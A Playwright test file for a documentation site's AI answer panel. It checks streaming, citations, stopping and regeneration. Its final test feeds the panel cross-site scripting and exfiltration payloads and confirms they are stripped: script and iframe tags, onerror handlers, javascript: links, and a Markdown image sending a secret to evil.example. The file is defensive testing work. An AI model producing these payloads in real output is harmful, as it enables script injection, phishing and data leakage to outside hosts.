import { expect, test } from '@playwright/test'
import { type AnswerService, startAnswerService } from './answer-service.test-helper.ts'
import {
  answerCall,
  ask,
  askAndRead,
  copyButton,
  openAsk,
  sampleQuestion,
  watch,
} from './ask-panel.test-helper.ts'

// The tests share a service, and each sets the script of its model.
test.describe.configure({ mode: 'default' })

let service: AnswerService
test.beforeAll(async () => {
  service = await startAnswerService()
})
test.afterAll(() => service.stop())

test('an answer is written as it streams, cites its sources and has its Markdown drawn', async ({ page }) => {
  const { complaints } = watch(page)
  const { promise: rest, resolve: goOn } = Promise.withResolvers<void>()
  service.say(async (write) => {
    write('## Dump\n\nRun `mariadb-dump` **daily** [1].\n\n')
    await rest
    write('| What | How |\n|---|---:|\n| Files | copy [2] |\n\n```sh\nmariadb-dump panel\n```\n\nNot [99].')
  })
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  await expect(pane).toContainText('Answers are written by an AI model from these docs')
  const answer = await ask(pane, sampleQuestion)
  await expect(answer.locator('strong', { hasText: 'daily' })).toBeVisible()
  await expect(pane.getByRole('button', { name: 'Stop' })).toBeVisible()
  await expect(pane.getByRole('status').last()).toHaveText('Writing the answer')
  await expect(answer.getByRole('listitem').filter({ hasText: 'Writing the answer' })).toContainText(
    'in progress',
  )
  goOn()
  await expect(copyButton(answer)).toBeVisible()
  await expect(answer.getByRole('heading', { name: 'Dump' })).toBeVisible()
  await expect(answer.getByRole('cell', { name: /^Files$/ })).toBeVisible()
  await expect(answer.locator('pre code')).toHaveText('mariadb-dump panel\n')
  await expect(answer.getByRole('link', { name: 'Source 2', exact: true }).first()).toBeVisible()
  // Text without a source is removed, and the list for plain text too.
  await expect(answer).not.toContainText('[99]')
  await expect(answer).not.toContainText('[1]')
  await expect(answer).not.toContainText('No AI was used')
  await expect(answer).toContainText(/Written from the docs by \S+\. Check important details\./)
  // Only cited sources are listed.
  await answer.locator('summary').click()
  await expect(answer.locator('details').getByRole('listitem')).toHaveCount(2)
  expect(complaints).toEqual([])
})

test('a planned answer shows each step while it is under way', async ({ page }) => {
  const { promise: rest, resolve: goOn } = Promise.withResolvers<void>()
  service.say(async (write) => {
    write('Run it daily [1].\n\n')
    await rest
  })
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  await pane.getByRole('checkbox', { name: 'Plan the answer step by step' }).check()
  const answer = await ask(pane, sampleQuestion)
  await expect(answer.getByText('Run it daily')).toBeVisible()
  await expect(answer.getByRole('list').first().getByRole('listitem')).toHaveText([
    'Question received (done)',
    'Plan ready (done)',
    'Understand the question (done)',
    'Find matching passages (done)',
    'Answer from these passages (in progress)',
  ])
  goOn()
  await expect(copyButton(answer)).toBeVisible()
  await expect(answer.getByText('Answer steps')).toBeVisible()
})

test('an answer can be stopped, also in the model, and repeated', async ({ page }) => {
  const { promise: never } = Promise.withResolvers<void>()
  service.say(async (write) => {
    write('Half of it [1].\n\n')
    await never
  })
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  const answer = await ask(pane, sampleQuestion)
  await expect(answer.getByText('Half of it')).toBeVisible()
  const before = service.abandoned()
  await pane.getByRole('button', { name: 'Stop' }).click()
  await expect(answer).toContainText('Stopped. The answer above is incomplete.')
  await expect(pane.getByRole('status').last()).toHaveText('Answer stopped')
  await expect.poll(() => service.abandoned()).toBe(before + 1)
  service.say((write) => write('All of it [1].'))
  await answer.getByRole('button', { name: 'Ask again' }).click()
  await expect(answer.getByText('All of it')).toBeVisible()
  await expect(answer).not.toContainText('Half of it')
})

test('an answer is written again by its button, in its place', async ({ page }) => {
  service.say((write) => write('Run it daily [1].'))
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  const answer = await askAndRead(pane, sampleQuestion)
  service.say((write) => write('Run it nightly [1].'))
  const again = page.waitForRequest(answerCall)
  await answer.getByRole('button', { name: 'Regenerate' }).click()
  expect((await again).postDataJSON()).toMatchObject({ query: sampleQuestion, messages: [] })
  await expect(answer.getByText('Run it nightly')).toBeVisible()
  await expect(answer).toBeFocused()
  await expect(answer).toHaveCount(1)
})

test('the model gets a follow-up with the conversation before it', async ({ page }) => {
  let request = ''
  service.say((write, prompt) => {
    request = prompt
    write('Copy it back [1].')
  })
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  await askAndRead(pane, sampleQuestion)
  await askAndRead(pane, 'And how do I restore it?')
  const { messages } = JSON.parse(request)
  expect(messages.slice(1).map(({ role }: { role: string }) => role)).toEqual(['user', 'assistant', 'user'])
  expect(messages[1].content).toBe(sampleQuestion)
})

test('says when the model finds no answer in the pages, and offers search', async ({ page }) => {
  service.say((write) => write('NOT_IN_SOURCES'))
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  const answer = await ask(pane, sampleQuestion)
  await expect(answer).toContainText('No page answers this question.')
  await expect(answer.getByRole('link', { name: 'Search the site' })).toBeVisible()
})

test('what a model says does nothing but read: no script, no picture, no way off the site', async ({
  page,
}) => {
  const { complaints, elsewhere } = watch(page)
  service.say((write) =>
    write(
      [
        'Read [1].',
        '<script>alert(1)</script><img src="https://evil.example/i.png" onerror="alert(2)">',
        '![x](https://evil.example/p.png?q=secret)',
        '[Log in](https://evil.example/login) [Here](javascript:alert(3)) <https://evil.example/auto>',
        '[There](//evil.example/x) [ref]\n\n[ref]: https://evil.example/ref "t"',
        '<iframe src="https://evil.example/f"></iframe><style>body{display:none}</style>',
      ].join('\n\n'),
    ),
  )
  await page.goto(`${service.address}/docs`)
  const pane = await openAsk(page)
  const answer = await askAndRead(pane, sampleQuestion)
  await expect(
    answer.locator('img, script, iframe, style, [href*="evil"], [href^="javascript"]'),
  ).toHaveCount(0)
  await expect(answer.getByText('Log in')).toBeVisible()
  expect(page.url()).toBe(`${service.address}/docs`)
  expect(complaints).toEqual([])
  expect(elsewhere).toEqual([])
})
